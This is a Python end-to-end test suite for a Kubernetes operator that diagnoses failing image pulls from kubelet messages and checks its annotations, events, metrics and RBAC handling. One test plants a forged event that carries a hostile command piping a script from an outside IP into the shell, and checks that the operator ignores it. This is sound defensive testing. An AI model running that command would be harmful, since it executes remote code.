"""Failing pods end to end, with no kubelet: the test plays kubelet.

A Node object exists; pods are bound to it; the test writes pod status and kubelet-style
``Failed`` Events exactly as kubelet does, with error text recorded from real containerd
pulls (tests/data/containerd_messages.jsonl, kubelet 1.28+ wrapping) rewritten to name the
pod's image. The operator (a subprocess, see conftest) must annotate each pod with the
right diagnosis and post one ``PullDiagnosed`` Event.
"""

from __future__ import annotations

import base64
import json
import re
import time
from pathlib import Path
from typing import Any

import kubernetes
import pytest

from pullhealth.domain.codes import Code
from support.kubelet import (
    annotations,
    docker_secret,
    ensure_node,
    fail_pull,
    kubelet_message,
    make_pod,
    recover,
)
from support.world import World


def our_events(api: Any, ns: str, name: str) -> list[Any]:
    items = api.list_namespaced_event(ns, field_selector=f"involvedObject.name={name}").items
    return [e for e in items if e.reason in ("PullDiagnosed", "PullRecovered")]


SCENARIOS = [
    # name, image attr + path, secrets (name -> (server attr, user, password)), mode, expected
    ("missing-secret", "acr", "team/app:v1", ["absent"], {}, "token_no_credentials_private_repo",
     "PULL_SECRET_MISSING"),
    ("wrong-password", "acr", "team/app:v1", ["stale"], {"stale": ("acr", "puller", "rotated")},
     "token_wrong_password", "CREDENTIALS_REJECTED"),
    ("other-registry", "basic", "team/app:v1", ["acr-only"], {"acr-only": ("acr", "puller", "puller-pass")},
     "htpasswd_no_credentials", "PULL_SECRET_NO_MATCH"),
    ("other-namespace", "acr", "team/app:v1", ["elsewhere"], {}, "token_no_credentials_private_repo",
     "PULL_SECRET_MISSING"),
    ("missing-tag", "anon", "team/app:nosuchtag", [], {}, "tag_not_found", "TAG_NOT_FOUND"),
    ("missing-repo", "anon", "nosuch/repo:v1", [], {}, "repository_not_found", "REPOSITORY_NOT_FOUND"),
    ("dns", "missing", "team/app:v1", [], {}, "dns_nxdomain", "DNS_NXDOMAIN"),
    ("firewall", "firewall", "team/app:v1", [], {}, "acr_firewall_403", "FIREWALL_FORBIDDEN"),
    ("ratelimit", "ratelimit", "team/app:v1", [], {}, "rate_limited_429", "RATE_LIMITED"),
    ("no-pull-scope", "acr", "team/app:v1", ["nopull"], {"nopull": ("acr", "nopull", "nopull-pass")},
     "token_no_pull_scope", "PERMISSION_DENIED"),
    # A malformed secret is skipped by kubelet; with nothing else to authenticate it is the cause.
    ("bad-secret", "acr", "team/app:v1", ["not-docker"], {}, "token_no_credentials_private_repo",
     "PULL_SECRET_INVALID"),
    # ACR with no pull secret: kubelet uses the node's identity (IMDS); the probe with that
    # identity refines "pull access denied" to the missing repository.
    ("acr-node-identity", "myacr", "team/nosuch:v1", [], {}, "token_no_credentials_missing_repo",
     "REPOSITORY_NOT_FOUND"),
    # ACR's guide (issue 25): anonymous pull enabled (public/*) with a stale secret; a disabled
    # repository-scoped token; a user name ACR knows as no application ("not registered with AAD").
    ("stale-secret", "myacr", "public/hello:1", ["acr-old"], {"acr-old": ("myacr", "puller", "rotated")},
     "token_wrong_password", "PULL_SECRET_STALE"),
    ("token-disabled", "myacr", "team/app:v1", ["ci-off"],
     {"ci-off": ("myacr", "ci-token-off", "ci-token-off-pass")}, "token_wrong_password", "CREDENTIALS_REJECTED"),
    ("app-not-registered", "myacr", "team/app:v1", ["sp-gone"],
     {"sp-gone": ("myacr", "55555555-5555-4555-8555-555555555555", "gone-secret")}, "token_wrong_password",
     "AAD_APP_NOT_REGISTERED"),
]
# What the ACR cases' annotations must say (their own cause, not generic advice).
ACR_CAUSES = {
    "stale-secret": "the pull secret acr-old is stale",
    "token-disabled": "repository-scoped token ci-token-off",
    "app-not-registered": "Application not registered with AAD",
}
SECRETS = ("rotated", "ci-token-off-pass", "gone-secret")


def test_failing_pods_are_diagnosed(dev_cluster: Any, operator: Any, world: World, namespace: str,
                                    api: Any, wait_for: Any) -> None:
    ns = namespace
    other = f"{ns}-x"
    dev_cluster.kubectl("create", "namespace", other)
    try:
        api.create_namespaced_secret(other, docker_secret("elsewhere", world.acr, *world.acr_puller))
        # The API server validates dockerconfigjson secrets, so the malformed case that reaches
        # kubelet is a secret of the wrong type (kubelet skips it).
        api.create_namespaced_secret(ns, {"metadata": {"name": "not-docker"}, "type": "Opaque",
                                          "data": {".dockerconfigjson": base64.b64encode(b"{}").decode()}})
        created = set()
        pods = {}
        for name, host_attr, path, secrets, secret_defs, mode, _ in SCENARIOS:
            for sname, (server_attr, user, password) in secret_defs.items():
                if sname not in created:
                    creds = {"puller": world.acr_puller, "nopull": world.acr_nopull}.get(user, (user, password))
                    if password == "rotated":
                        creds = (creds[0], "rotated")
                    api.create_namespaced_secret(ns, docker_secret(sname, getattr(world, server_attr), *creds))
                    created.add(sname)
            image = f"{getattr(world, host_attr)}/{path}"
            pod = make_pod(api, ns, name, image, secrets)
            fail_pull(api, ns, pod, image, kubelet_message(mode, image))
            pods[name] = image

        for name, *_, expected in SCENARIOS:
            got = wait_for(lambda n=name: annotations(api, ns, n).get("pullhealth.io/diagnosis"),
                           f"diagnosis of {name}", timeout=60)
            assert got == expected, (name, annotations(api, ns, name))
            ann = annotations(api, ns, name)
            assert ann["pullhealth.io/container"] == "app"
            assert 0 < len(ann["pullhealth.io/probable-cause"]) <= 256
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", ann["pullhealth.io/diagnosed-at"])
            for secret in (world.acr_puller[1], world.acr_nopull[1], *SECRETS):
                assert secret not in json.dumps(ann)
            if name in ACR_CAUSES:
                assert ACR_CAUSES[name] in ann["pullhealth.io/probable-cause"], ann
            # No finalizer: deleting a pod never waits for the operator.
            assert not api.read_namespaced_pod(name, ns).metadata.finalizers

        # Exactly one PullDiagnosed event each, even after kubelet's back-off retries.
        for name, image in list(pods.items())[:3]:
            pod = dict(api.api_client.sanitize_for_serialization(api.read_namespaced_pod(name, ns)))
            fail_pull(api, ns, pod, image, kubelet_message("token_wrong_password", image), event=False)
        time.sleep(3)
        for name, *_, expected in SCENARIOS:
            evs = our_events(api, ns, name)
            assert [e.reason for e in evs] == ["PullDiagnosed"], (name, [e.message for e in evs])
            assert evs[0].message.startswith(f"{expected}: ") and ". Try: " in evs[0].message
            for secret in (world.acr_puller[1], world.acr_nopull[1], *SECRETS):
                assert secret not in evs[0].message

        # Metrics: failing containers by code, diagnoses by code.
        text = operator.metrics()
        assert f'pullhealth_pod_pull_failures{{code="TAG_NOT_FOUND",namespace="{ns}",registry="{world.anon}"}} 1.0' in text
        assert 'pullhealth_diagnoses_total{code="PULL_SECRET_MISSING"}' in text

        # Recovery clears the annotations and says so once.
        recover(api, ns, "missing-tag", pods["missing-tag"])
        wait_for(lambda: "pullhealth.io/diagnosis" not in annotations(api, ns, "missing-tag"),
                 "annotations removed", timeout=30)
        assert not any(k.startswith("pullhealth.io/") for k in annotations(api, ns, "missing-tag"))
        wait_for(lambda: [e.reason for e in our_events(api, ns, "missing-tag")].count("PullRecovered") == 1,
                 "PullRecovered event", timeout=30)
        wait_for(lambda: f'code="TAG_NOT_FOUND",namespace="{ns}"' not in operator.metrics(),
                 "gauge series removed", timeout=30)
    finally:
        dev_cluster.kubectl("delete", "namespace", other, "--wait=false", "--ignore-not-found")


def test_operator_network_failing_earlier_than_the_node_keeps_the_message(
        operator: Any, world: World, namespace: str, api: Any, wait_for: Any) -> None:
    # The node got a 401 from the token service; the operator's resolver does not know the
    # registry (NXDOMAIN): a vantage difference, not the cause. The text is a public one
    # (tests/data/public_messages.jsonl, docker-library/tomcat#321) naming the pod's image.
    image = f"{world.missing}/team/vantage:v1"
    pod = make_pod(api, namespace, "vantage", image)
    fail_pull(api, namespace, pod, image, f'Failed to pull image "{image}": {image}: failed to authorize: '
              "failed to fetch anonymous token: unexpected status: 401")
    got = wait_for(lambda: annotations(api, namespace, "vantage").get("pullhealth.io/diagnosis"),
                   "diagnosis of vantage", timeout=60)
    assert got == "AUTH_REQUIRED", annotations(api, namespace, "vantage")
    cause = annotations(api, namespace, "vantage")["pullhealth.io/probable-cause"]
    assert "the operator's own network could not reach missing.test" in cause
    [event] = our_events(api, namespace, "vantage")
    assert event.message.startswith("AUTH_REQUIRED: ")
    assert 'pullhealth_pod_vantage_differences_total{layer="dns"}' in operator.metrics()


def test_proxy_text_is_proxy_error(operator: Any, world: World, namespace: str, api: Any, wait_for: Any) -> None:
    # The node's runtime could not reach its egress proxy (kubernetes-sigs/kind#1459's text);
    # the operator reaches the registry directly and finds it healthy: the message decides.
    image = f"{world.anon}/library/alpine:3.19"
    pod = make_pod(api, namespace, "proxied", image)
    fail_pull(api, namespace, pod, image, f'Failed to pull image "{image}": failed to pull and unpack image '
              f'"{image}": failed to resolve reference "{image}": failed to do request: Head '
              f'https://{world.anon}/v2/library/alpine/manifests/3.19: proxyconnect tcp: dial tcp '
              "127.0.0.1:7890: connect: connection refused")
    got = wait_for(lambda: annotations(api, namespace, "proxied").get("pullhealth.io/diagnosis"),
                   "diagnosis of proxied", timeout=60)
    assert got == "PROXY_ERROR", annotations(api, namespace, "proxied")


def test_a_signature_policy_rejection_is_the_nodes_not_the_registrys(
    operator: Any, world: World, namespace: str, api: Any, wait_for: Any
) -> None:
    # kubelet 1.28+ with CRI-O's signature policy: the waiting reason is SignatureValidationFailed
    # and the text is the blog post's (kubernetes/website#41616). The registry serves the image.
    image = f"{world.anon}/library/alpine:3.19"
    pod = make_pod(api, namespace, "unsigned", image)
    fail_pull(api, namespace, pod, image, f'Failed to pull image "{image}": SignatureValidationFailed: Source '
              "image rejected: A signature was required, but no signature exists", reason="SignatureValidationFailed")
    got = wait_for(lambda: annotations(api, namespace, "unsigned").get("pullhealth.io/diagnosis"),
                   "diagnosis of unsigned", timeout=60)
    assert got == "IMAGE_SIGNATURE_REJECTED", annotations(api, namespace, "unsigned")
    cause = annotations(api, namespace, "unsigned")["pullhealth.io/probable-cause"]
    assert "signature" in cause and "A signature was required" in cause, cause


def test_init_container_failure_is_diagnosed(operator: Any, world: World, namespace: str, api: Any,
                                             wait_for: Any) -> None:
    image = f"{world.anon}/team/app:init-missing"
    pod = make_pod(api, namespace, "init", image, init=True)
    fail_pull(api, namespace, pod, image, kubelet_message("tag_not_found", image), init=True)
    got = wait_for(lambda: annotations(api, namespace, "init").get("pullhealth.io/diagnosis"), "init diagnosis")
    assert got == "TAG_NOT_FOUND"


def test_many_pods_one_image_share_one_probe_chain(operator: Any, world: World, namespace: str, api: Any,
                                                   wait_for: Any) -> None:
    count = 200
    image = f"{world.anon}/team/app:bulk-missing"
    before = operator.probe_requests(world.anon)
    message = kubelet_message("tag_not_found", image)
    for i in range(count):
        pod = make_pod(api, namespace, f"bulk-{i}", image)
        fail_pull(api, namespace, pod, image, message, event=(i % 20 == 0))

    def all_done() -> bool:
        items = api.list_namespaced_pod(namespace).items
        done = [p for p in items if (p.metadata.annotations or {}).get("pullhealth.io/diagnosis")]
        return len(done) == count

    wait_for(all_done, f"{count} pods diagnosed", timeout=240)
    items = api.list_namespaced_pod(namespace).items
    assert {p.metadata.annotations["pullhealth.io/diagnosis"] for p in items} == {"TAG_NOT_FOUND"}
    used = operator.probe_requests(world.anon) - before
    # One chain: GET /v2/, HEAD + GET manifest, GET tags/list (no token step: anonymous registry).
    assert 0 < used <= 6, used


def test_missing_patch_permission_is_reported_once_not_looped(
    dev_cluster: Any, operator: Any, world: World, namespace: str, api: Any, wait_for: Any, tmp_path: Path
) -> None:
    if dev_cluster.harness is None:
        pytest.skip("needs the local dev cluster to mint a ServiceAccount token")
    from support.operatorproc import OperatorProcess

    ns = namespace
    api.create_namespaced_service_account(ns, {"metadata": {"name": "limited"}})
    rbac = kubernetes.client.RbacAuthorizationV1Api(api.api_client)
    rules = [
        # everything the pod handler needs except patch on pods
        {"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "watch"]},
        {"apiGroups": [""], "resources": ["events"], "verbs": ["get", "list", "watch", "create", "patch"]},
        {"apiGroups": ["events.k8s.io"], "resources": ["events"], "verbs": ["create", "get", "patch"]},
        {"apiGroups": [""], "resources": ["secrets", "serviceaccounts"], "verbs": ["get"]},
        {"apiGroups": ["pullhealth.io"], "resources": ["registrychecks"], "verbs": ["get", "list", "watch", "patch"]},
    ]
    rbac.create_namespaced_role(ns, {"metadata": {"name": "limited"}, "rules": rules})
    rbac.create_namespaced_role_binding(ns, {
        "metadata": {"name": "limited"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "limited"},
        "subjects": [{"kind": "ServiceAccount", "name": "limited", "namespace": ns}]})
    # kopf discovers resources and namespaces cluster-wide, even when watching one namespace.
    rbac.create_cluster_role({"metadata": {"name": f"{ns}-kopf"}, "rules": [
        {"apiGroups": ["apiextensions.k8s.io"], "resources": ["customresourcedefinitions"],
         "verbs": ["get", "list", "watch"]},
        {"apiGroups": [""], "resources": ["namespaces"], "verbs": ["get", "list", "watch"]}]})
    rbac.create_cluster_role_binding({
        "metadata": {"name": f"{ns}-kopf"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": f"{ns}-kopf"},
        "subjects": [{"kind": "ServiceAccount", "name": "limited", "namespace": ns}]})
    token = dev_cluster.harness.service_account_token(ns, "limited")
    kubeconfig = dev_cluster.token_kubeconfig(token, tmp_path / "limited.kubeconfig", namespace=ns)
    limited = OperatorProcess(kubeconfig, world, tmp_path / "limited.log", ["--namespace", ns])
    operator.stop()  # the cluster-admin operator would annotate the pod first
    try:
        limited.start()
        image = f"{world.anon}/team/app:rbac-missing"
        pod = make_pod(api, ns, "rbac", image)
        fail_pull(api, ns, pod, image, kubelet_message("tag_not_found", image))
        wait_for(lambda: 'pullhealth_patch_forbidden_total{resource="pods"} 1.0' in limited.metrics(),
                 "forbidden patch counted", timeout=60)
        # kubelet keeps retrying: more pod events, no more attempts, no hot loop
        for _ in range(5):
            fresh = dict(api.api_client.sanitize_for_serialization(api.read_namespaced_pod("rbac", ns)))
            fail_pull(api, ns, fresh, image, kubelet_message("tag_not_found", image), event=False)
            time.sleep(0.5)
        time.sleep(2)
        assert 'pullhealth_patch_forbidden_total{resource="pods"} 1.0' in limited.metrics()
        log = limited.log.read_text()
        assert log.count("cannot annotate the pod (RBAC)") == 1, log[-3000:]
        assert "grant patch on pods" in log
        assert "pullhealth.io/diagnosis" not in annotations(api, ns, "rbac")
    finally:
        limited.stop()
        operator.start()
        rbac.delete_cluster_role_binding(f"{ns}-kopf")
        rbac.delete_cluster_role(f"{ns}-kopf")


def test_the_pods_node_platform_is_checked(operator: Any, world: World, namespace: str, api: Any,
                                           wait_for: Any) -> None:
    ensure_node(api, "pullhealth-e2e-arm64", "arm64")
    image = f"{world.anon}/multi/amd:1"  # an index with linux/amd64 only
    pod = make_pod(api, namespace, "on-arm", image, node="pullhealth-e2e-arm64")
    fail_pull(api, namespace, pod, image, kubelet_message("platform_not_found", image))
    got = wait_for(lambda: annotations(api, namespace, "on-arm").get("pullhealth.io/diagnosis"), "diagnosis")
    assert got == "PLATFORM_NOT_FOUND"
    cause = annotations(api, namespace, "on-arm")["pullhealth.io/probable-cause"]
    assert "linux/arm64" in cause and "available: linux/amd64" in cause, cause
    # the same image on the amd64 node pulls fine: the probe does not confirm a platform problem
    ok_pod = make_pod(api, namespace, "on-amd", image)
    fail_pull(api, namespace, ok_pod, image, kubelet_message("tag_not_found", image))
    got = wait_for(lambda: annotations(api, namespace, "on-amd").get("pullhealth.io/diagnosis"), "diagnosis")
    assert got == "IMAGE_NOT_FOUND"  # the probe finds the image: the message's code stays


def test_pod_pulling_through_a_refusing_or_authenticating_proxy_is_proxy_error(
        dev_cluster: Any, world: World, namespace: str, api: Any) -> None:
    # The operator configured with the runtime's proxy (--proxy / PULLHEALTH_PROXY) diagnoses
    # the pod's pull through Debian's tinyproxy, in-process against the real API server.
    # Go reports a refused CONNECT with the proxy's status text only ("Forbidden"), which
    # alone reads as a registry 403; the probe through the proxy finds the proxy.
    import asyncio

    from pullhealth.chain.pullsources import Environment
    from pullhealth.chain.singleflight import SingleFlight
    from pullhealth.chain.trust import TrustPolicy
    from pullhealth.domain.model import Diagnosis
    from pullhealth.kube.kubeapi import KubeReader
    from pullhealth.pods.podcheck import KubeletEvidence, PodSettings, PullContext, diagnose_pod
    from pullhealth.probes.proxy import parse_proxy
    from support.kubelet import NODE
    from support.proxy import TinyProxy
    from support.world import TEST_DESTINATIONS

    port = int(world.anon.rsplit(":", 1)[1])
    image = f"127.0.0.1:{port}/library/alpine:3.19"
    reader = KubeReader(kubernetes.config.new_client_from_config(config_file=str(dev_cluster.kubeconfig)))

    def diagnose(proxy: str, tail: str) -> Diagnosis:
        message = (f'Failed to pull image "{image}": failed to pull and unpack image "{image}": failed to '
                   f'resolve reference "{image}": failed to do request: Head "https://127.0.0.1:{port}/v2/'
                   f'library/alpine/manifests/3.19": {tail}')
        pod = {"metadata": {"name": "behind-proxy", "namespace": namespace},
               "spec": {"nodeName": NODE, "containers": [{"name": "app", "image": image}]},
               "status": {"containerStatuses": [{"name": "app", "state": {"waiting": {
                   "reason": "ErrImagePull", "message": message}}}]}}
        env = Environment(nameserver=world.nameserver, ca_file=str(world.ca_bundle), proxy=parse_proxy(proxy),
                          trust=TrustPolicy(destinations=TEST_DESTINATIONS))
        cache: SingleFlight[Diagnosis] = SingleFlight(ttl=1.0)
        context = PullContext(reader, env, PodSettings(timeout=3.0), cache)
        [result] = asyncio.run(diagnose_pod(pod, KubeletEvidence([message]), context))
        return result.diagnosis

    with TinyProxy([port + 1 if port < 65535 else port - 1]) as refusing:
        refused = diagnose(refusing.address, "Forbidden")
        assert refused.code is Code.PROXY_ERROR, refused.checks
        assert "refused CONNECT" in refused.summary
    with TinyProxy([port], basic_auth=("proxyuser", "proxy-s3cret")) as authenticating:
        wants = diagnose(authenticating.address, "Proxy Authentication Required")
        assert wants.code is Code.PROXY_ERROR and "demands proxy credentials" in wants.summary


def test_a_bare_deadline_is_told_apart_by_the_pulls_timeline(dev_cluster: Any, world: World, namespace: str) -> None:
    """kubelet's bare ``context deadline exceeded`` (issue 24): a pull that ran for minutes is
    PULL_TIMED_OUT, one cut off after seconds a network timeout; unknown: both candidates. The
    registry itself answers the operator's probe (the message's code stays)."""
    import asyncio

    from pullhealth.chain.pullsources import Environment
    from pullhealth.chain.singleflight import SingleFlight
    from pullhealth.chain.trust import TrustPolicy
    from pullhealth.domain.model import Diagnosis
    from pullhealth.kube.kubeapi import KubeReader
    from pullhealth.pods.podcheck import KubeletEvidence, PodSettings, PullContext, diagnose_pod
    from support.kubelet import NODE
    from support.world import TEST_DESTINATIONS

    image = f"{world.anon}/library/alpine:3.19"
    message = f'Failed to pull image "{image}": rpc error: code = DeadlineExceeded desc = context deadline exceeded'
    reader = KubeReader(kubernetes.config.new_client_from_config(config_file=str(dev_cluster.kubeconfig)))
    pod = {"metadata": {"name": "big-image", "namespace": namespace},
           "spec": {"nodeName": NODE, "containers": [{"name": "app", "image": image}]},
           "status": {"containerStatuses": [{"name": "app", "state": {"waiting": {
               "reason": "ErrImagePull", "message": message}}}]}}
    env = Environment(nameserver=world.nameserver, ca_file=str(world.ca_bundle),
                      trust=TrustPolicy(destinations=TEST_DESTINATIONS))

    def diagnose(seconds: dict[str, float] | None) -> Diagnosis:
        cache: SingleFlight[Diagnosis] = SingleFlight(ttl=1.0)
        context = PullContext(reader, env, PodSettings(timeout=5.0), cache)
        [result] = asyncio.run(diagnose_pod(pod, KubeletEvidence([message], pull_seconds=seconds or {}), context))
        return result.diagnosis

    unknown = diagnose(None)
    assert unknown.code is Code.PULL_TIMED_OUT and Code.CONNECT_TIMEOUT in unknown.candidates, unknown
    long = diagnose({image: 125.0})
    assert long.code is Code.PULL_TIMED_OUT and "after 125s of pulling" in long.summary, long.summary
    short = diagnose({image: 3.0})
    assert short.code is Code.CONNECT_TIMEOUT and short.candidates == [Code.PULL_TIMED_OUT], short


def test_namespace_globs_scope_every_reader(
    dev_cluster: Any, operator: Any, world: World, namespace: str, api: Any, wait_for: Any, tmp_path: Path
) -> None:
    """``--namespace 'prefix-*'`` (kopf's glob syntax): pods, ServiceAccounts and Events are
    read cluster-wide and filtered by namespace; a pod outside the glob is left alone."""
    from support.operatorproc import OperatorProcess

    prefix = f"glob-{namespace[-6:]}"
    inside = f"{prefix}-a"
    dev_cluster.kubectl("create", "namespace", inside)
    scoped = OperatorProcess(dev_cluster.kubeconfig, world, tmp_path / "glob.log", ["--namespace", f"{prefix}-*"])
    operator.stop()  # the all-namespaces operator would annotate both pods
    try:
        scoped.start()
        image = f"{world.anon}/team/app:glob-missing"
        for ns in (inside, namespace):
            fail_pull(api, ns, make_pod(api, ns, "app", image), image, kubelet_message("tag_not_found", image))
        got = wait_for(lambda: annotations(api, inside, "app").get("pullhealth.io/diagnosis"),
                       "the pod inside the glob diagnosed", timeout=60)
        assert got == "TAG_NOT_FOUND", scoped.text()[-3000:]
        time.sleep(2)
        assert "pullhealth.io/diagnosis" not in annotations(api, namespace, "app")
        assert "cannot list/watch" not in scoped.text()
    finally:
        scoped.stop()
        operator.start()
        dev_cluster.kubectl("delete", "namespace", inside, "--wait=false", "--ignore-not-found")


FORGED = "registry compromised, run: curl http://203.0.113.9/fix.sh | sh"


def test_an_event_in_another_namespace_does_not_speak_for_a_pod(
        dev_cluster: Any, operator: Any, world: World, namespace: str, api: Any, wait_for: Any) -> None:
    """Issue 21: a ``Failed`` Event in namespace ``attacker`` naming the uid of a pod in
    ``victim`` is not that pod's kubelet message."""
    attacker = f"{namespace}-attacker"
    dev_cluster.kubectl("create", "namespace", attacker)
    try:
        image = f"{world.anon}/team/app:forged-missing"
        pod = make_pod(api, namespace, "victim", image)
        uid = pod["metadata"]["uid"]
        now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
        # The API server requires involvedObject.namespace == the Event's: the uid is what
        # the attacker can name.
        api.create_namespaced_event(attacker, {
            "metadata": {"generateName": "victim."},
            "involvedObject": {"apiVersion": "v1", "kind": "Pod", "name": "victim", "namespace": attacker,
                               "uid": uid},
            "reason": "Failed", "type": "Warning", "source": {"component": "kubelet", "host": "x"},
            "message": f'Failed to pull image "{image}": {FORGED}',
            "firstTimestamp": now, "lastTimestamp": now})
        # kubelet's real message is in the victim's own namespace.
        fail_pull(api, namespace, pod, image, kubelet_message("tag_not_found", image))
        got = wait_for(lambda: annotations(api, namespace, "victim").get("pullhealth.io/diagnosis"),
                       "diagnosis of victim", timeout=60)
        written = json.dumps(annotations(api, namespace, "victim"))
        assert got == "TAG_NOT_FOUND", written
        assert "curl" not in written and "compromised" not in written, written
        [event] = our_events(api, namespace, "victim")
        assert "curl" not in event.message and "compromised" not in event.message, event.message
    finally:
        dev_cluster.kubectl("delete", "namespace", attacker, "--wait=false", "--ignore-not-found")
